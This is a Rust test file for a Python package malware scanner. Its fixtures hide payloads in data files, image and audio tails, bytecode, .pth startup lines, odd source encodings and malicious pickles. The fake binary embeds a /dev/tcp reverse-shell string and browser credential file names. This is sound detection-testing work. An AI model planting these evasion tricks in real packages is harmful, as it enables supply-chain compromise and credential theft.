//! Evasions in where the payload lies, and in how a source is encoded.

use fondaco_testkit::{Sdist, Wheel};
use fondaco_verdict::Trigger::{Import, Startup};
use fondaco_verdict::Verdict::{Clean, Malicious, Suspicious};

use crate::code::python;
use crate::{COMMAND, HONEST, evasion, hold, module, plain};

/// Base64 of the payload, long enough to count as data.
fn encoded() -> String {
    let text = format!("{}\n{}", plain(), "# padding\n".repeat(40));
    let hex: String = text.bytes().map(|byte| format!("{byte:02x}")).collect();
    let program = format!("import base64; print(base64.b64encode(bytes.fromhex('{hex}')).decode(), end='')");
    String::from_utf8(python(&program)).unwrap()
}

fn png_with(tail: &[u8]) -> Vec<u8> {
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde".to_vec();
    png.extend(b"\0\0\0\0IEND\xaeB`\x82");
    png.extend(tail);
    png
}

fn wav_with(frames: &[u8]) -> Vec<u8> {
    let mut wav = b"RIFF".to_vec();
    wav.extend((36 + frames.len() as u32).to_le_bytes());
    wav.extend(b"WAVEfmt \x10\0\0\0\x01\0\x01\0\x40\x1f\0\0\x40\x1f\0\0\x01\0\x08\0data");
    wav.extend((frames.len() as u32).to_le_bytes());
    wav.extend(frames);
    wav
}

#[test]
fn in_files_that_are_no_source() {
    let text = module(&format!(
        "import os, base64\nexec(base64.b64decode(open(os.path.join(os.path.dirname(__file__), 'license.txt')).read()))\n{HONEST}"
    ));
    let json = module(&format!(
        "import os, base64, json\nc = json.load(open(os.path.dirname(__file__) + '/conf.json'))\nexec(base64.b64decode(c['k']))\n{HONEST}"
    ));
    let png = module(&format!(
        "import os, base64\nd = open(os.path.dirname(__file__) + '/logo.png', 'rb').read()\nexec(base64.b64decode(d.split(b'IEND')[1][4:]))\n{HONEST}"
    ));
    let wav = module(&format!(
        "import os, base64, wave\nw = wave.open(os.path.dirname(__file__) + '/ring.wav')\nexec(base64.b64decode(w.readframes(w.getnframes())))\n{HONEST}"
    ));
    let data = module(&format!(
        "import pkgutil, zlib\nexec(zlib.decompress(pkgutil.get_data(__name__, 'blob.bin')))\n{HONEST}"
    ));
    let resource = module(&format!(
        "import base64\nfrom importlib.resources import files\nexec(base64.b64decode(files('x').joinpath('blob.txt').read_text()))\n{HONEST}"
    ));
    let plain_text = module(&format!("exec(open('x/notes.txt').read())\n{HONEST}"));
    let loader = module(&format!(
        "import os\nfrom importlib.machinery import SourceFileLoader\nSourceFileLoader('t', os.path.join(os.path.dirname(__file__), 'tables.dat')).load_module()\n{HONEST}"
    ));
    hold(&[
        evasion(
            "a module in a data file",
            loader.file("x/tables.dat", format!("{}\n", plain())).build(),
            (Suspicious, "command-download"),
            Import,
        ),
        evasion(".txt", text.file("x/license.txt", encoded()).build(), (Suspicious, "decoded-exec"), Import),
        evasion(
            ".json",
            json.file("x/conf.json", format!("{{\"k\": \"{}\"}}", encoded())).build(),
            (Suspicious, "decoded-exec"),
            Import,
        ),
        evasion(
            ".png",
            png.file("x/logo.png", png_with(encoded().as_bytes())).build(),
            (Malicious, "decoded-exec"),
            Import,
        ),
        evasion(
            ".wav",
            wav.file("x/ring.wav", wav_with(encoded().as_bytes())).build(),
            (Suspicious, "decoded-exec"),
            Import,
        ),
        evasion(
            "pkgutil.get_data",
            data.file("x/blob.bin", [7; 900]).build(),
            (Suspicious, "decoded-exec"),
            Import,
        ),
        evasion(
            "importlib.resources",
            resource.file("x/blob.txt", encoded()).build(),
            (Suspicious, "decoded-exec"),
            Import,
        ),
        evasion(
            "text that is executed",
            plain_text.file("x/notes.txt", plain()).build(),
            (Suspicious, "command-download"),
            Import,
        ),
    ]);
}

#[test]
fn in_compiled_files() {
    let code: String =
        format!("import os\nos.system('{COMMAND}')\n").bytes().map(|b| format!("{b:02x}")).collect();
    let program = format!(
        "import sys, marshal, importlib.util as u\nc = compile(bytes.fromhex('{code}'), 'x', 'exec')\n\
         sys.stdout.buffer.write(u.MAGIC_NUMBER + bytes(12) + marshal.dumps(c))"
    );
    let pyc = python(&program);
    let library = [
        &b"\x7fELF\x02\x01\x01\0"[..],
        &[0; 56],
        COMMAND.as_bytes(),
        b"\0/dev/tcp/192.0.2.1/4444 0>&1\0Login Data\0Local State\0discord.com/api/webhooks/\0",
    ]
    .concat();
    hold(&[
        evasion(
            "bytecode alone",
            Wheel::new("x", "1").file("x/__init__.pyc", &pyc).build(),
            (Suspicious, "command-download"),
            Import,
        ),
        evasion(
            "bytecode beside source",
            module(HONEST).file("x/__pycache__/__init__.cpython-311.pyc", &pyc).build(),
            (Suspicious, "command-download"),
            Import,
        ),
        evasion(
            "bytecode called data",
            module(&format!(
                "import marshal\nexec(marshal.loads(open('x/d.bin', 'rb').read()[16:]))\n{HONEST}"
            ))
            .file("x/d.bin", &pyc)
            .build(),
            (Suspicious, "decoded-exec"),
            Import,
        ),
        evasion(
            "a library",
            module(HONEST).file("x/_fast.so", library).build(),
            (Suspicious, "binary-marks"),
            None,
        ),
        evasion(
            "a line far below in .pth",
            module(HONEST)
                .file("x.pth", format!("{}import os; os.system('{COMMAND}')\n", "./lib\n".repeat(4000)))
                .build(),
            (Suspicious, "command-download"),
            Startup,
        ),
        evasion(
            "a tab in .pth",
            module(HONEST).file("x.pth", format!("import\tos; os.system('{COMMAND}')\n")).build(),
            (Suspicious, "command-download"),
            Startup,
        ),
        evasion(
            "exec in .pth",
            module(HONEST)
                .file("x.pth", format!("import os;exec(\"\"\"os.system('{COMMAND}')\"\"\")\n"))
                .build(),
            (Suspicious, "command-download"),
            Startup,
        ),
    ]);
}

/// `site` ends lines where Python's text files do, or `str.splitlines` does, and knows no cookies.
#[test]
fn lines_of_pth_are_those_of_any_python() {
    hold(&[
        evasion(
            "a carriage return in .pth",
            module(HONEST).file("x.pth", format!("./lib\rimport os; os.system('{COMMAND}')\r")).build(),
            (Suspicious, "command-download"),
            Startup,
        ),
        evasion(
            "a line of Unicode in .pth",
            module(HONEST).file("x.pth", format!("./lib\u{2028}import os; os.system('{COMMAND}')")).build(),
            (Suspicious, "command-download"),
            Startup,
        ),
        evasion(
            "a cookie in .pth",
            module(HONEST)
                .file("x.pth", format!("# coding: rot13\nimport os; os.system('{COMMAND}')\n"))
                .build(),
            (Suspicious, "command-download"),
            Startup,
        ),
    ]);
}

/// The lines that honest tools put into `.pth` files.
#[test]
fn honest_lines_of_pth_are_clean() {
    for (name, line) in [
        (
            "distutils-precedence.pth",
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ",
        ),
        (
            "a1_coverage.pth",
            "import sys; exec('try: import coverage; coverage.process_startup()\\nexcept ImportError: pass')",
        ),
        ("__editable__.x-1.pth", "import __editable___x_1_finder; __editable___x_1_finder.install()"),
        (
            "x-nspkg.pth",
            "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('x',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('x', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('x', [os.path.dirname(p)])));m = m or sys.modules.setdefault('x', types.ModuleType('x'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)",
        ),
        (
            "easy-install.pth",
            "import sys; sys.__plen = len(sys.path)\n./x.egg\nimport sys; new=sys.path[sys.__plen:]; del sys.path[sys.__plen:]; p=getattr(sys,'__egginsert',0); sys.path[p:p]=new; sys.__egginsert = p+len(new)",
        ),
    ] {
        hold(&[evasion(name, module(HONEST).file(name, line).build(), (Clean, ""), None)]);
    }
}

#[test]
fn in_pickles() {
    let pickle = python(
        "import os, pickle, sys\nclass A:\n    def __reduce__(self): return (os.system, ('echo',))\nsys.stdout.buffer.write(pickle.dumps(A()))",
    );
    let zlib = {
        let hex: String = pickle.iter().map(|b| format!("{b:02x}")).collect();
        python(&format!("import sys, zlib; sys.stdout.buffer.write(zlib.compress(bytes.fromhex('{hex}')))"))
    };
    let gzip = gzipped(&pickle);
    hold(&[
        evasion(
            "a pickle",
            module(HONEST).file("x/model.pkl", &pickle).build(),
            (Malicious, "pickle-call"),
            None,
        ),
        evasion(
            "a pickle in zlib",
            module(HONEST).file("x/model.joblib", zlib).build(),
            (Malicious, "pickle-call"),
            None,
        ),
        evasion(
            "a pickle in gzip",
            module(HONEST).file("x/model.pkl.gz", gzip).build(),
            (Malicious, "pickle-call"),
            None,
        ),
    ]);
}

fn gzipped(bytes: &[u8]) -> Vec<u8> {
    let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
    python(&format!("import sys, gzip; sys.stdout.buffer.write(gzip.compress(bytes.fromhex('{hex}')))"))
}

#[test]
fn in_odd_encodings() {
    let code = format!("import os\nos.system('{COMMAND}')\n");
    let utf16: Vec<u8> =
        [0xff, 0xfe].into_iter().chain(code.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    let through = |codec: &str, cookie: &str| {
        let text: String = code.bytes().map(|b| format!("{b:02x}")).collect();
        let body = python(&format!(
            "import sys, codecs; t = bytes.fromhex('{text}').decode(); r = codecs.encode(t, '{codec}'); sys.stdout.buffer.write(r if isinstance(r, bytes) else r.encode())"
        ));
        [format!("# -*- coding: {cookie} -*-\n").as_bytes(), &body].concat()
    };
    let shifted = code.replace("os", "+AG8AcwA-");
    let sdist =
        |bytes: &[u8]| Sdist::new("x", "1").file("x/__init__.py", HONEST).file("setup.py", bytes).build();
    let utf7 = format!("# coding: utf-7\n{shifted}");
    let old = format!("import os\nprint 'hello'\nos.system('{COMMAND}')\nexec 'x = 1'\n");
    hold(&[
        evasion("UTF-16", sdist(&utf16), (Suspicious, "command-download"), None),
        evasion("UTF-7", sdist(utf7.as_bytes()), (Suspicious, "command-download"), None),
        evasion("rot13", sdist(&through("rot13", "rot13")), (Suspicious, "command-download"), None),
        evasion("cp1026", sdist(&cp1026(&code)), (Suspicious, "command-download"), None),
        evasion(
            "unicode_escape",
            sdist(
                format!(
                    "# coding: unicode_escape\n{}",
                    code.bytes()
                        .map(|b| if b == b'\n' { "\n".to_owned() } else { format!("\\x{b:02x}") })
                        .collect::<String>()
                )
                .as_bytes(),
            ),
            (Suspicious, "command-download"),
            None,
        ),
        evasion(
            "hidden by unicode_escape",
            sdist(format!("# coding: unicode_escape\n# \\nimport os\\nos.system('{COMMAND}')\n").as_bytes()),
            (Suspicious, "command-download"),
            None,
        ),
        evasion(
            "raw_unicode_escape",
            sdist(
                format!("# coding: raw_unicode_escape\n# \\u000aimport os\\u000aos.system('{COMMAND}')\n")
                    .as_bytes(),
            ),
            (Suspicious, "command-download"),
            None,
        ),
        evasion("Python 2", sdist(old.as_bytes()), (Suspicious, "command-download"), None),
        evasion(
            "a broken line",
            sdist(format!("import os\nos.system('{COMMAND}')\ndef (:\n").as_bytes()),
            (Suspicious, "command-download"),
            None,
        ),
        evasion(
            "null bytes",
            sdist(format!("import os\nos.system('{COMMAND}')\n\0").as_bytes()),
            (Suspicious, "command-download"),
            None,
        ),
        evasion(
            "carriage returns",
            sdist(code.replace('\n', "\r").as_bytes()),
            (Suspicious, "command-download"),
            None,
        ),
    ]);
}

/// All of it in EBCDIC, but for the line that names the codec.
fn cp1026(code: &str) -> Vec<u8> {
    let text: String = code.bytes().map(|b| format!("{b:02x}")).collect();
    let body = python(&format!(
        "import sys; sys.stdout.buffer.write(('\\n' + bytes.fromhex('{text}').decode()).encode('cp1026'))"
    ));
    [b"# coding: cp1026\n".as_slice(), &body].concat()
}
